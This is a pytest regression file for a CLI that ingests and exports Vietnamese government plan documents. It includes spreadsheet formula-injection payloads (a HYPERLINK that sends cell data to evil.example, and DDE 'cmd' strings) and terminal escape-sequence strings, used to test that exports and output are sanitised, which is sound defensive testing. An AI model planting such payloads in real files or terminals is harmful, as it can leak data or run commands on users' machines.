"""Issue 12: hostile text, reverted amendments, OCR copies, runaway inputs, leaked secrets,
orphaned servers, relative paths and the command line's rough edges. Each test failed before
its fix."""
from __future__ import annotations

import copy
import json
import csv
import os
import re
import shutil
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from gold_plans import fake_document, gold_plans
from plans.cli import app
import store
from store_fixtures import BACKENDS, db, db_url, fresh_database, pg_admin  # noqa: F401

ROOT = Path(__file__).parent.parent
TXT = ROOT / "data/raw/txt/003_49a8354a5f205a74.txt"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def plans(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


def gold(name: str):
    """One gold plan (document, plan) by document name prefix, a deep copy."""
    return copy.deepcopy(next((d, p) for d, p in gold_plans() if p.document.startswith(name)))


# -- 1. formula injection ------------------------------------------------------------------

def test_exports_write_formula_like_text_as_text(db, tmp_path):
    import openpyxl
    document, plan = gold("001")
    for task, payload in zip(plan.tasks, PAYLOADS):
        task.text = payload
    store.load(db, document, plan)
    store.export(db, "xlsx", tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["All tasks"]
    texts = [c.value for c in ws["J"][1:5]]
    assert texts == PAYLOADS
    assert all(c.data_type == "s" for c in ws["J"][1:5])
    store.export(db, "csv", tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows[:4]] == ["'" + p for p in PAYLOADS]
    assert not any(v[:1] in "=+@" for r in rows for v in r.values() if v)
    assert rows[5]["text"] == plan.tasks[5].text          # ordinary text untouched


# -- 2. control characters ---------------------------------------------------------------------

def hostile_copy(tmp_path: Path, text: str = "\x1b[31m\x01 ngay\x0b") -> Path:
    """The text sample of plan 003 with control characters inside its task lines."""
    source = TXT.read_text(encoding="utf-8")
    out = tmp_path / "003_hostile.txt"
    out.write_text(source.replace("Sở Khoa học và Công nghệ", f"Sở Khoa học{text} và Công nghệ"),
                   encoding="utf-8")
    return out


def test_extraction_removes_control_characters(tmp_path):
    import extractors
    from extractors.controls import CONTROL
    document = extractors.read(hostile_copy(tmp_path))
    texts = [b.text for b in document.blocks] + [c for b in document.blocks for r in b.rows or []
                                                 for c in r]
    assert "Sở Khoa học ngay và Công nghệ" in "\n".join(texts)
    assert not any(CONTROL.search(t) or "\x1b" in t or "\x0b" in t for t in texts)


def test_a_failed_export_names_plan_and_field_and_keeps_the_previous_file(db, tmp_path):
    document, plan = gold("001")
    store.load(db, document, plan)
    keep = tmp_path / "keep.xlsx"
    store.export(db, "xlsx", keep)
    before = keep.read_bytes()
    plan.tasks[2].support.append("Sở \x1bTài chính")
    store.load(db, fake_document(plan, salt="esc"), plan)
    with pytest.raises(ValueError, match=r"plan 3021/KH-UBND, task .*'support'.*'\\x1b'"):
        store.export(db, "xlsx", keep)
    assert keep.read_bytes() == before
    assert not list(tmp_path.glob("*.tmp*"))


def test_ingest_then_export_of_a_plan_with_control_characters(tmp_path):
    url = f"sqlite:///{tmp_path / 'p.db'}"
    assert plans("ingest", hostile_copy(tmp_path), "--db", url).exit_code == 0
    result = plans("export", "-o", tmp_path / "keep.xlsx", "--db", url)
    assert result.exit_code == 0, result.output


# -- 3. reverted amendments ----------------------------------------------------------------------

def test_an_earlier_versions_bytes_again_become_a_new_current_version(db):
    document, plan = gold("001")
    store.load(db, document, plan)
    amended = copy.deepcopy(plan)
    amended.tasks[0].text += " và báo cáo kết quả"
    assert store.load(db, fake_document(amended, salt="v2"), amended).version == 2
    again = store.load(db, document, plan)
    assert (again.status, again.version) == ("new_version", 3)
    plan_id = again.plan_id
    assert store.plan_records(db, plan_id) == plan.to_records()
    [change] = store.diff(db, plan_id)
    assert change.kind == "changed" and change.fields["text"]["new"] == plan.tasks[0].text
    assert store.load(db, document, plan).status == "unchanged"
    assert store.list_plans(db)[0]["sources"] == 2


def test_a_reverted_file_is_loaded_again_an_old_copy_beside_the_new_is_not(tmp_path):
    url = f"sqlite:///{tmp_path / 'p.db'}"
    v1 = TXT.read_text(encoding="utf-8")
    v2 = v1.replace("Sở Khoa học và Công nghệ", "Sở Tài chính", 1)
    plan_file = tmp_path / "plan.txt"
    plan_file.write_text(v1, encoding="utf-8")
    old = tmp_path / "old" / "plan_v1.txt"
    old.parent.mkdir()
    shutil.copy(plan_file, old)
    assert plans("ingest", plan_file, "--db", url).exit_code == 0
    plan_file.write_text(v2, encoding="utf-8")
    assert "new version" in plans("ingest", plan_file, "--db", url).output
    assert "skipped" in plans("ingest", old, "--db", url).output     # an old copy: v2 stays
    plan_file.write_text(v1, encoding="utf-8")
    result = plans("ingest", plan_file, "--db", url)
    assert re.search(r"new version │ +3 │", result.output), result.output
    assert "Sở Khoa học và Công nghệ" in plans("diff", "plan", "--db", url).output
    plan_file.write_text(v2, encoding="utf-8")
    assert re.search(r"new version │ +4 │", plans("ingest", plan_file, "--db", url).output)
    forced = plans("ingest", old, "--force", "--db", url).output    # asked for: v1 again
    assert re.search(r"new version │ +5 │", forced), forced


# -- 4. an OCR copy --------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def pdf_and_scan():
    """(document, plan) of plan 003's PDF and of its scan (OCR reads "III.1.1" as "II.1.1")."""
    import extractors
    import pipeline
    out = []
    for folder in ("pdf", "scanned"):
        document = extractors.read(ROOT / f"data/raw/{folder}/003_49a8354a5f205a74.pdf")
        out.append((document, pipeline.find_plan(document)))
    return out


@pytest.mark.parametrize("order", [(0, 1), (1, 0)], ids=["pdf-first", "scan-first"])
def test_an_ocr_copy_is_a_source_of_the_version_it_reads(db, pdf_and_scan, order):
    (pdf, pdf_plan), (scan, _) = pdf_and_scan
    assert scan.ocr and not pdf.ocr
    results = [store.load(db, *pdf_and_scan[k]) for k in order]
    plan_id = results[0].plan_id
    assert store.plan_records(db, plan_id) == pdf_plan.to_records()   # the PDF's tasks are current
    if order == (0, 1):
        assert (results[1].status, results[1].version) == ("new_source", 1)
    # a scan after an amendment is a source of the version it reads, not current
    amended = copy.deepcopy(pdf_plan)
    amended.tasks.pop()
    store.load(db, fake_document(amended, salt="v2"), amended)
    again = copy.deepcopy(pdf_and_scan[1][0])
    again.sha256 = "f" * 64
    result = store.load(db, again, pdf_and_scan[1][1])
    assert result.status == "new_source" and result.version < store.list_plans(db)[0]["version"]
    assert store.plan_records(db, plan_id) == amended.to_records()


def test_copies_of_a_plan_load_in_a_fixed_order():
    from flows import steps
    files = ["s/003.pdf", "p/003.pdf", "t/003.txt", "d/003.docx", "p/001.pdf", "d/001.docx"]
    assert steps.copies(files) == [["d/003.docx", "t/003.txt", "p/003.pdf", "s/003.pdf"],
                                   ["d/001.docx", "p/001.pdf"]]
    assert steps.copies(list(reversed(files))) == list(reversed(steps.copies(files)))


# -- 5. runaway input ----------------------------------------------------------------------------

def test_text_extraction_is_linear_in_size(tmp_path):
    import time

    import extractors
    line = "sở tài chính chủ trì thực hiện nhiệm vụ phát triển khoa học công nghệ trên địa bàn\n"
    seconds = []
    for mb in (0.25, 4):
        path = tmp_path / f"{mb}.txt"      # one paragraph: hard-wrapped lines, no blank line
        path.write_text(line * int(mb * 1e6 / len(line.encode())), encoding="utf-8")
        t0 = time.perf_counter()
        extractors.read(path)
        seconds.append(time.perf_counter() - t0)
    assert seconds[1] < 32 * seconds[0] + 0.5, seconds     # linear: 16x, quadratic: 256x


def test_files_above_the_limits_are_refused_and_recorded(tmp_path, monkeypatch):
    from sqlalchemy import create_engine
    url = f"sqlite:///{tmp_path / 'p.db'}"
    monkeypatch.setenv("PLANS_MAX_MB", "0.01")
    result = plans("ingest", TXT, "--db", url)
    assert result.exit_code == 1
    assert "above the limit of 0.01 MB" in result.stderr and "PLANS_MAX_MB" in result.stderr
    monkeypatch.delenv("PLANS_MAX_MB")
    monkeypatch.setenv("PLANS_MAX_PAGES", "2")
    result = plans("ingest", ROOT / "data/raw/pdf/001_49944c2a62862d7a.pdf", "--db", url)
    assert result.exit_code == 1 and "pages, above the limit of 2" in result.stderr
    with create_engine(url).connect() as conn:
        runs = conn.exec_driver_sql("select status, error from ingestion_run").all()
    assert [status for status, _ in runs] == ["failed", "failed"]
    assert "above the limit" in runs[0][1]


# -- 6. the database password -------------------------------------------------------------------

SECRET_URL = "postgresql+psycopg://plans:S3cretPW@dbhost:5432/plans"


def test_serve_keeps_the_password_out_of_parameters_and_messages(tmp_path, monkeypatch):
    import plans.cli as cli
    from flows import prefect_flows
    monkeypatch.setattr(cli, "database", lambda url: None)
    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    result = plans("serve", tmp_path, "--db", SECRET_URL)
    assert result.exit_code == 1 and "S3cretPW" not in result.output + result.stderr
    assert "plans:***@dbhost" in result.stderr
    served = {}
    monkeypatch.setattr(cli, "prefect_server", lambda: "http://127.0.0.1:4200/api")
    monkeypatch.setattr(prefect_flows.ingest_folder, "serve", lambda **kw: served.update(kw))
    monkeypatch.setenv("PLANS_DB_URL", "sqlite:///elsewhere.db")     # restored afterwards
    result = plans("serve", tmp_path, "--db", SECRET_URL)
    assert result.exit_code == 0, result.output
    assert "S3cretPW" not in repr(served) + result.output and "db" not in served["parameters"]
    assert os.environ["PLANS_DB_URL"] == SECRET_URL      # what the served runs connect to


# -- 7. the temporary Prefect server dies with its parent ------------------------------------------

def running(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "\nState:\tZ" not in status


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="Linux only")
def test_the_temporary_prefect_server_dies_when_ingest_is_killed(tmp_path):
    import signal
    import subprocess
    import time
    env = {k: v for k, v in os.environ.items() if k != "PREFECT_API_URL"}
    proc = subprocess.Popen([sys.executable, "-m", "plans.cli", "ingest", ROOT / "data/raw/txt", "--flow",
                             "--db", f"sqlite:///{tmp_path / 'p.db'}"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def servers() -> list[int]:
        out = subprocess.run(["ps", "-o", "pid=,args=", "--ppid", str(proc.pid)],
                             capture_output=True, text=True).stdout
        return [int(line.split()[0]) for line in out.splitlines() if "uvicorn" in line]

    try:
        deadline = time.time() + 90
        while not servers() and time.time() < deadline and proc.poll() is None:
            time.sleep(0.2)
        found = servers()
        assert found, "no temporary server was started"
    finally:
        proc.kill()
        proc.wait()
    deadline = time.time() + 20
    while any(map(running, found)) and time.time() < deadline:
        time.sleep(0.2)
    alive = [pid for pid in found if running(pid)]
    for pid in alive:
        os.kill(pid, signal.SIGKILL)
    assert not alive



def test_a_folder_flow_run_keeps_the_temporary_servers_output_off_stderr(tmp_path):
    """The temporary server logs the flushes it is cancelled in when stopped (CancelledError
    tracebacks after a successful run); at DEBUG it logs every request: none of it may reach
    the terminal, all of it goes to its log file."""
    import subprocess
    from flows.orphans import server_log
    log = server_log()
    before = log.stat().st_size if log.exists() else 0
    env = {k: v for k, v in os.environ.items() if k != "PREFECT_API_URL"}
    env.update(PREFECT_SERVER_LOGGING_LEVEL="DEBUG", PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS="120")
    run = subprocess.run([sys.executable, "-m", "plans.cli", "ingest", ROOT / "data/raw/txt",
                          ROOT / "data/raw/docx", "--flow", "--db", f"sqlite:///{tmp_path / 'p.db'}"],
                         env=env, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr[-2000:]
    assert "10 files" in run.stdout
    assert not re.search(r"Traceback|CancelledError|prefect\.server|DEBUG", run.stderr), run.stderr[-2000:]
    assert log.stat().st_size > before

# -- 8. paths ----------------------------------------------------------------------------------

def test_paths_are_stored_absolute_and_removed_files_reported_in_process(tmp_path, monkeypatch):
    folder = tmp_path / "plans"
    folder.mkdir()
    for name in ("000_fba4a04cf6e4002e.txt", "001_49944c2a62862d7a.txt"):
        shutil.copy(ROOT / "data/raw/txt" / name, folder)
    url = f"sqlite:///{tmp_path / 'p.db'}"
    monkeypatch.chdir(tmp_path)
    assert plans("ingest", "plans", "--no-flow", "--db", url).exit_code == 0
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    again = plans("ingest", "../plans", "--no-flow", "--db", url)
    assert again.exit_code == 0 and "removed" not in again.output, again.output
    assert "2 skipped" in again.output
    from sqlalchemy import create_engine
    with create_engine(url).connect() as conn:
        paths = conn.exec_driver_sql("select path from source_file").scalars().all()
    assert sorted(paths) == sorted(str(p) for p in folder.iterdir())
    (folder / "000_fba4a04cf6e4002e.txt").unlink()
    gone = plans("ingest", "../plans", "--no-flow", "--db", url)
    assert "removed:" in gone.output and "000_fba4a04cf6e4002e.txt" in gone.output


# -- should fix ----------------------------------------------------------------------------------

def test_province_filter_takes_percent_and_underscore_literally(db):
    for document, plan in gold_plans():
        store.load(db, document, plan)
    assert store.query_tasks(db, province="%") == []
    assert store.query_tasks(db, province="_on tum") == []
    assert store.query_tasks(db, province="kon tum")


@pytest.mark.parametrize("args", [["--runner", "bogus"], ["--workers", "0"], ["--workers", "-3"]])
def test_bad_runner_or_workers_are_usage_errors_before_any_work(tmp_path, args):
    result = plans("ingest", TXT, *args, "--db", f"sqlite:///{tmp_path / 'p.db'}")
    assert result.exit_code == 2 and not (tmp_path / "p.db").exists(), result.output


def test_read_commands_refuse_a_missing_database_and_take_a_bare_path(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for command in (["list"], ["show", "x"], ["tasks"], ["export", "-o", "t.csv"]):
        result = plans(*command, "--db", "sqlite:///typo.db")
        assert result.exit_code == 1 and "no plans database at" in result.stderr
    assert not (tmp_path / "typo.db").exists()
    assert plans("ingest", TXT, "--db", "mine.db").exit_code == 0
    assert "1 of 1" in plans("list", "--db", "mine.db").output


def test_version_option():
    result = plans("--version")
    assert result.exit_code == 0 and result.output.startswith("plans ")


HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m[bold red]x[/]\x01"
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_text_from_a_plan_reaches_the_terminal_without_escapes_or_markup(db, db_url):
    document, plan = gold("001")
    plan.meta.title = HOSTILE + plan.meta.title
    plan.meta.signer = HOSTILE
    plan.tasks[0].text = HOSTILE + plan.tasks[0].text
    plan.tasks[0].lead = [HOSTILE + "Sở Tài chính"]
    next(t for t in plan.tasks if t.deadlines).deadlines[0].raw = HOSTILE
    store.load(db, document, plan)
    plan.tasks[1].text += HOSTILE
    store.load(db, fake_document(plan, salt="v2"), plan)
    number = plan.meta.number
    runs = {"list": plans("list", "--db", db_url), "show": plans("show", number, "--db", db_url),
            "tasks": plans("tasks", "--plan", number, "--db", db_url),
            "diff": plans("diff", number, "--db", db_url),
            "error": plans("show", "no such plan" + HOSTILE, "--db", db_url)}
    for name, run in runs.items():
        assert run.exit_code == (1 if name == "error" else 0), (name, run.output)
        shown = run.stdout + run.stderr
        assert not CONTROLS.search(shown), (name, shown)
        assert "pwned" not in shown
    assert "[bold red]x[/]" in runs["show"].stdout.splitlines()[0]
    assert "[bold red]x[/]" in runs["error"].stderr


def test_file_names_reach_the_terminal_without_escapes(tmp_path):
    name = HOSTILE.replace("[/]", "")                      # a file name holds no "/"
    good, bad = tmp_path / f"003{name}.txt", tmp_path / f"bad{name}.txt"
    shutil.copy(TXT, good)
    bad.write_bytes(b"")
    run = plans("ingest", good, bad, "--no-flow", "--db", f"sqlite:///{tmp_path / 'p.db'}")
    assert run.exit_code == 1
    assert not CONTROLS.search(run.stdout + run.stderr), run.stdout + run.stderr
    assert "[bold red]x" in run.stderr and "loaded" in run.stdout


def test_errors_name_the_plan_as_typed(db, db_url):
    for document, plan in gold_plans()[:2]:
        store.load(db, document, plan)
    [plan_id] = [p["id"] for p in store.list_plans(db) if p["number"] == "3021/KH-UBND"]
    cases = {("show", "9999/KH-UBND"): "no plan 9999/KH-UBND;",
             ("show", "3021/kh-ubnd", "--version", "7"): "plan 3021/kh-ubnd has no version 7;",
             ("diff", "3021/kh-ubnd", "--old", "5"): "plan 3021/kh-ubnd has no version 5;",
             ("review", "3021/kh-ubnd", "--version", "7"): "plan 3021/kh-ubnd has no version 7;"}
    for args, said in cases.items():
        run = plans(*args, "--db", db_url)
        assert run.exit_code == 1 and said in run.stderr, (args, run.stderr)
        assert f"plan {plan_id} " not in run.stderr


@pytest.mark.parametrize("stray", [b"\xff", b"\xe1\xba", b"\x81\x81\x81"], ids=["ff", "cut", "three"])
def test_a_stray_byte_in_utf8_is_named_not_taken_for_tcvn3(tmp_path, stray):
    import extractors
    from schemas.document import ExtractionError
    raw = TXT.read_bytes()
    at = raw.index("Sở Tài chính".encode()) + 1            # after the "S"
    (tmp_path / "plan.txt").write_bytes(raw[:at] + stray + raw[at:])
    with pytest.raises(ExtractionError) as e:
        extractors.read(tmp_path / "plan.txt")
    assert f"invalid UTF-8 at byte {at}" in e.value.cause and "TCVN3" not in e.value.cause


def test_export_to_standard_output_and_format_against_suffix(db, db_url, tmp_path):
    import io
    import subprocess
    import openpyxl
    for document, plan in gold_plans()[:2]:
        store.load(db, document, plan)
    tasks = sum(len(p.tasks) for _, p in gold_plans()[:2])
    jsonl = plans("export", "-o", "-", "--db", db_url)
    assert jsonl.exit_code == 0 and len(jsonl.stdout.splitlines()) == tasks + 2
    assert plans("export", "-o", tmp_path / "t.jsonl", "--db", db_url).exit_code == 0
    assert jsonl.stdout_bytes == (tmp_path / "t.jsonl").read_bytes()
    rows = list(csv.DictReader(io.StringIO(plans("export", "-f", "csv", "-o", "-", "--db", db_url)
                                           .stdout.removeprefix("\ufeff"))))
    assert len(rows) == tasks and rows[0]["province"] == "Ninh Thuận"
    workbook = plans("export", "-f", "xlsx", "-o", "-", "--db", db_url)   # stdout is no terminal
    assert workbook.exit_code == 0
    assert openpyxl.load_workbook(io.BytesIO(workbook.stdout_bytes))["All tasks"].max_row == tasks + 1
    contradiction = plans("export", "--format", "csv", "-o", tmp_path / "x.xlsx", "--db", db_url)
    assert contradiction.exit_code == 2 and "contradicts" in contradiction.stderr
    assert not (tmp_path / "x.xlsx").exists()
    assert plans("export", "-o", tmp_path / "t.CSV", "--db", db_url).exit_code == 0
    assert (tmp_path / "t.CSV").read_text(encoding="utf-8-sig").startswith("plan,")
    import pty
    main, terminal = pty.openpty()
    run = subprocess.run([sys.executable, "-m", "plans.cli", "export", "-f", "xlsx", "-o", "-",
                          "--db", db_url], stdout=terminal, stderr=subprocess.PIPE, text=True)
    os.close(main), os.close(terminal)
    assert run.returncode == 2 and "binary" in run.stderr


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_plan_without_a_number_has_one_label_whichever_copy_loads_first(request, tmp_path, backend):
    _, plan = gold("003")
    assert not plan.meta.number
    seen = []
    for i, names in enumerate((["a_copy", "b_copy"], ["b_copy", "a_copy"])):
        (tmp_path / str(i)).mkdir()
        with fresh_database(request, backend, tmp_path / str(i)) as url:
            engine = store.connect(url)
            for name in names:
                copy_ = copy.deepcopy(plan)
                copy_.document = name
                store.load(engine, fake_document(copy_), copy_)
            [listed] = store.list_plans(engine)
            store.export(engine, "csv", tmp_path / str(i) / "t.csv")
            with open(tmp_path / str(i) / "t.csv", encoding="utf-8-sig", newline="") as f:
                exported = {r["plan"] for r in csv.DictReader(f)}
            shown = plans("tasks", "--json", "--db", url).stdout.splitlines()
            seen.append((listed["label"], exported, {json.loads(s)["plan_label"] for s in shown}))
            engine.dispose()
    assert seen[0] == seen[1]
    label = seen[0][0]
    assert seen[0][1:] == ({label}, {label}) and "copy" not in label


def test_every_option_help_shows_in_full():
    """Each option's help text (defaults included) reaches --help whole: none of it read as
    markup (review's "<document>.review.html" was shown as ".review.html")."""
    import click
    import typer.main
    group = typer.main.get_command(app)
    commands = [(name, c) for name, c in group.commands.items() if not isinstance(c, click.Group)]
    commands += [(f"{name} {sub}", c) for name, g in group.commands.items()
                 if isinstance(g, click.Group) for sub, c in g.commands.items()]
    squeeze = lambda s: re.sub(r"[\s│]", "", s)
    for name, command in commands:
        shown = squeeze(CliRunner().invoke(app, [*name.split(), "--help"], env={"COLUMNS": "240"}).stdout)
        for param in command.params:
            if getattr(param, "help", None) and not param.hidden:
                assert squeeze(param.help) in shown, (name, param.name, param.help)


def test_review_writes_its_default_file_where_help_says(tmp_path, monkeypatch):
    document, plan = gold("001")
    store.load(store.connect(f"sqlite:///{tmp_path / 'p.db'}"), document, plan)
    monkeypatch.chdir(tmp_path)
    assert plans("review", plan.meta.number, "--db", tmp_path / "p.db").exit_code == 0
    assert (tmp_path / f"{plan.document}.review.html").is_file()
